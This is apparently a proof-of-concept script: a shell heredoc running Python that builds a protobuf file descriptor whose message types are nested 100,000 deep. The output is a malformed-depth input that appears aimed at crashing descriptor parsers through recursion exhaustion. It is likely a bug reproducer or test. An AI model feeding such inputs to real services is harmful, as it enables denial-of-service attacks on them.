# file h.proto { message A { nested_type { nested_type { ... 100000 deep } } } }
python3 - <<'PY'
import sys

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7f
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)

name = b"\x0a\x01A"
depth = 100000
sizes = [len(name)]
for _ in range(depth):
    inner = sizes[-1]
    sizes.append(len(name) + 1 + len(varint(inner)) + inner)
body = bytearray()
for k in range(depth, 0, -1):
    body += name + b"\x1a" + varint(sizes[k - 1])
body += name
assert len(body) == sizes[-1]
fname = b"\x0a\x07h.proto"
fd = fname + b"\x22" + varint(len(body)) + bytes(body)
sys.stdout.buffer.write(b"\x0a" + varint(len(fd)) + fd)
PY
